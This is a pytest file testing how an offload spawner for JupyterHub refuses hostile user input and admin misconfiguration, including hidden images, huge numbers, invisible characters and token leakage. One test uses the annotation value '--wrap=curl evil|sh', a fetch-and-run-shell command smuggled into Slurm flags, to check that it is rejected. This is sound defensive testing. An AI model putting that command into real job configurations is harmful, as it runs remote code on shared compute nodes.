"""Hostile input to the pure core: what a user posts (form, REST, CLI all end in
:func:`offload_spawner.pipeline.selection.select`) and what an admin's typo configures.

Each case here was once accepted (or crashed) and must now be refused with a
sentence, changing nothing.
"""

from __future__ import annotations

import copy

import pytest

from offload_spawner.hub.forms import render_form
from offload_spawner.identity.iam import normalize_groups
from offload_spawner.pipeline.catalog import CatalogError, build_catalog
from offload_spawner.pipeline.menu import build_menu
from offload_spawner.pipeline.selection import SelectionError, select

CMS = ["cms"]
HIGHRATE = ["highrate"]
GPU_USER = ["cms", "ai-infn", "gpu-users"]


def refused(menu, user_options) -> SelectionError:
    with pytest.raises(SelectionError) as info:
        select(menu, user_options)
    error = info.value
    assert error.message.endswith("."), error.message
    assert "Traceback" not in error.message and "Error" not in error.message
    return error


# --- free text equal to a choice the user may not pick ----------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "ghcr.io/org/offload:1.0",
        " ghcr.io/org/offload:1.0",
        "GHCR.IO/org/offload:1.0",
        "ghcr.io/org/OFFLOAD:1.0",
        "ｇｈｃｒ.io/org/offload:1.0",  # noqa: RUF001 - full-width letters: the same after NFKC
    ],
)
def test_free_text_equal_to_a_hidden_choice_is_refused(contract_catalog, text):
    menu = build_menu(contract_catalog, CMS)  # the "offload" choice is for highrate only
    error = refused(menu, {"profile": "analysis", "image--unlisted-choice": text})
    assert error.field == "image--unlisted-choice"
    assert "Dask offload" not in error.message  # the hidden choice is not named


def test_free_text_equal_to_a_visible_choice_is_still_accepted(contract_catalog):
    for groups, image in ((CMS, "ghcr.io/org/alma9:1.0"), (HIGHRATE, "ghcr.io/org/offload:1.0")):
        selection = select(
            build_menu(contract_catalog, groups), {"profile": "analysis", "image--unlisted-choice": image}
        )
        assert selection.options["image"].unlisted == image


def test_hidden_docker_hub_image_is_refused_in_every_spelling(contract_config):
    config = copy.deepcopy(contract_config)
    choices = config["profile_list"][0]["profile_options"]["image"]["choices"]
    choices["secret"] = {
        "display_name": "Licensed",
        "allowed_groups": ["highrate"],
        "kubespawner_override": {"image": "licensed/tool"},
    }
    config["profile_list"][0]["profile_options"]["image"]["unlisted_choice"]["validation_regex"] = None
    config["profile_list"][0]["profile_options"]["image"]["unlisted_choice"]["kubespawner_override"] = {
        "image": "{value}"
    }
    menu = build_menu(build_catalog(**config), CMS)
    for text in (
        "licensed/tool",
        "docker.io/licensed/tool",
        "docker.io/licensed/tool:latest",
        "licensed/tool:latest",
        "index.docker.io/licensed/tool",
    ):
        refused(menu, {"profile": "analysis", "image--unlisted-choice": text})
    # a different tag is a different image
    assert select(menu, {"profile": "analysis", "image--unlisted-choice": "licensed/tool:2"})


def test_free_text_through_a_template_matching_a_hidden_choice_is_refused(contract_config):
    config = copy.deepcopy(contract_config)
    image = config["profile_list"][0]["profile_options"]["image"]
    image["unlisted_choice"] = {"enabled": True, "kubespawner_override": {"image": "ghcr.io/org/{value}"}}
    menu = build_menu(build_catalog(**config), CMS)
    refused(menu, {"profile": "analysis", "image--unlisted-choice": "offload:1.0"})
    assert select(menu, {"profile": "analysis", "image--unlisted-choice": "alma9:1.0"})


def test_the_menu_does_not_carry_the_hidden_image_in_clear(contract_catalog):
    menu = build_menu(contract_catalog, CMS)
    assert "ghcr.io/org/offload" not in repr(menu)


# --- huge numbers -------------------------------------------------------------------------

HUGE = [10**400, "9" * 400, -(10**400), 1e308, "1" + "0" * 30, 10**30]


@pytest.mark.parametrize("value", HUGE)
@pytest.mark.parametrize("key", ["cores", "memory", "accelerator_count"])
def test_huge_numbers_are_refused_with_a_sentence(contract_catalog, key, value):
    menu = build_menu(contract_catalog, GPU_USER)
    options = {"profile": "analysis", "target": "leonardo", key: value}
    if key == "accelerator_count":
        options["accelerator"] = "nvidia.com/gpu:a100"
    error = refused(menu, options)
    assert error.field == key
    assert len(error.message) < 300
    assert "9" * 50 not in error.message and "0" * 50 not in error.message


@pytest.mark.parametrize("value", [10**400, "9" * 400])
def test_a_stored_selection_that_no_longer_parses_renders_the_form_with_a_notice(contract_catalog, value):
    menu = build_menu(contract_catalog, CMS)
    page = render_form(menu, {"profile": "analysis", "memory": value, "cores": value})
    assert "no longer available" in page
    assert "9" * 50 not in page


# --- invisible characters ---------------------------------------------------------------


@pytest.mark.parametrize(
    "char",
    ["\x9b", "\x85", "\u202e", "\u200b", "\u2028", "\u2029", "\ue000", "\ufeff", "\u2066", "\U000e0041", "\u00ad"],
)
def test_invisible_characters_in_free_text_are_refused_whatever_the_regex(contract_config, char):
    config = copy.deepcopy(contract_config)
    # an admin regex that lets anything through
    config["profile_list"][0]["profile_options"]["image"]["unlisted_choice"]["validation_regex"] = "(?s).*"
    menu = build_menu(build_catalog(**config), CMS)
    error = refused(menu, {"profile": "analysis", "image--unlisted-choice": f"ghcr.io/org/x{char}y:1"})
    assert error.field == "image--unlisted-choice"
    assert char not in error.message


def test_ordinary_non_ascii_letters_stay_allowed(contract_config):
    config = copy.deepcopy(contract_config)
    config["profile_list"][0]["profile_options"]["image"]["unlisted_choice"]["validation_regex"] = None
    menu = build_menu(build_catalog(**config), CMS)
    assert select(menu, {"profile": "analysis", "image--unlisted-choice": "registry.example/ñandú:1"})


# --- group prefix -------------------------------------------------------------------------


def test_group_prefix_matches_whole_path_segments():
    assert normalize_groups(["/cms", "/cms/higgs", "/cmsfake", "/cms-x", "/atlas"], "cms") == ["cms", "cms/higgs"]
    assert normalize_groups(["/cms", "/cms/higgs", "/cmsfake"], "/cms") == ["cms", "cms/higgs"]
    # a trailing "/" keeps only the subgroups
    assert normalize_groups(["/cms", "/cms/higgs", "/cmsx/y"], "cms/") == ["cms/higgs"]


# --- check-time gaps ----------------------------------------------------------------------


def problems_of(**config) -> list[str]:
    from offload_spawner.hub.spawner import check_catalog

    with pytest.raises(CatalogError) as info:
        check_catalog(config)
    return info.value.problems


LEONARDO = {
    "display_name": "Leonardo",
    "backend": "slurm",
    "node": "vk-leonardo",
    "slurm": {"partition": "boost"},
}


@pytest.mark.parametrize(
    "key",
    [
        "slurm-job.vk.io/flags",
        "slurm-job.vk.io/pre-exec",
        "htcondor-job.vk.io/singularity-options",
        "interlink.io/remote-pvc",
        "offload-spawner.io/target",
    ],
)
def test_a_raw_annotation_may_not_replace_a_typed_one(key):
    target = dict(LEONARDO, annotations={key: "--wrap=curl evil|sh"})
    problems = problems_of(offload_targets={"leonardo": target}, profile_list=[{"display_name": "A"}])
    assert any(p.startswith("offload_targets.leonardo.annotations") and key in p for p in problems), problems


@pytest.mark.parametrize(
    ("override", "path"),
    [
        ({"cpu_limit": "lots"}, "profile_list[0].kubespawner_override.cpu_limit"),
        ({"imgae": "x"}, "profile_list[0].kubespawner_override.imgae"),
        (
            {"extra_annotations": {"slurm-job.vk.io/flags": "--wrap=x"}},
            "profile_list[0].kubespawner_override.extra_annotations",
        ),
    ],
)
def test_kubespawner_override_wrong_types_and_misspelt_keys_are_refused(override, path):
    problems = problems_of(profile_list=[{"display_name": "A", "kubespawner_override": override}])
    assert any(p.startswith(path) for p in problems), problems


def test_misspelt_key_suggests_the_right_one():
    [problem] = problems_of(profile_list=[{"display_name": "A", "kubespawner_override": {"imgae": "x"}}])
    assert "'image'" in problem


def test_override_checks_reach_choices_and_unlisted_templates():
    profile = {
        "display_name": "A",
        "profile_options": {
            "image": {
                "display_name": "Image",
                "choices": {"x": {"display_name": "X", "kubespawner_override": {"mem_limit": [1]}}},
                "unlisted_choice": {"enabled": True, "kubespawner_override": {"imagee": "{value}"}},
            }
        },
    }
    problems = problems_of(profile_list=[profile])
    assert any("profile_options.image.choices.x.kubespawner_override.mem_limit" in p for p in problems), problems
    assert any("profile_options.image.unlisted_choice.kubespawner_override.imagee" in p for p in problems), problems


def test_valid_overrides_and_callables_pass():
    from offload_spawner.hub.spawner import check_catalog

    check_catalog(
        {
            "profile_list": [
                {
                    "display_name": "A",
                    "kubespawner_override": {
                        "image": "x:1",
                        "cpu_limit": 2,
                        "mem_limit": "4G",
                        "extra_resource_limits": {"nvidia.com/gpu": "1"},
                        "environment": {"A": "b"},
                        "node_selector": lambda spawner: {},
                    },
                }
            ]
        }
    )


# --- least privilege off-site -------------------------------------------------------------


def dask_pod_env(tokens: dict | None) -> dict[str, dict]:
    from offload_spawner.dask.dask_config import cluster_spec
    from offload_spawner.pipeline.limits import Ceiling

    target = {"display_name": "Naples", "backend": "htcondor", "node": "vk-naples", "offload": "dask"}
    if tokens is not None:
        target["tokens"] = tokens
    catalog = build_catalog([{"display_name": "A"}], {"naples": target})
    t = catalog.offload_targets["naples"]
    spec = cluster_spec(
        name="c",
        target_slug="naples",
        target=t,
        settings=t.dask_settings,
        ceiling=Ceiling(cores=None, memory=None),
        image="img:1",
        secret="jupyter-alice-offload",
        user_name="alice",
    )
    envs = {}
    for role in ("scheduler", "worker"):
        container = spec["spec"][role]["spec"]["containers"][0]
        envs[role] = {e["name"]: e for e in container["env"]}
    return envs


def test_dask_pods_sent_off_site_get_no_hub_token_unless_the_policy_names_it():
    for env in dask_pod_env(None).values():
        assert "JUPYTERHUB_API_TOKEN" not in env
        assert "ACCESS_TOKEN" in env
    for env in dask_pod_env({"dask_pods": ["hub_token", "access_token"]}).values():
        assert env["JUPYTERHUB_API_TOKEN"]["valueFrom"]["secretKeyRef"]["key"]
    for env in dask_pod_env({"dask_pods": []}).values():
        assert not [name for name in env if "TOKEN" in name]


def test_a_misspelt_dask_token_name_is_refused():
    with pytest.raises(CatalogError) as info:
        dask_pod_env({"dask_pods": ["refresh_token"]})
    assert any(p.startswith("offload_targets.naples.tokens.dask_pods") for p in info.value.problems)
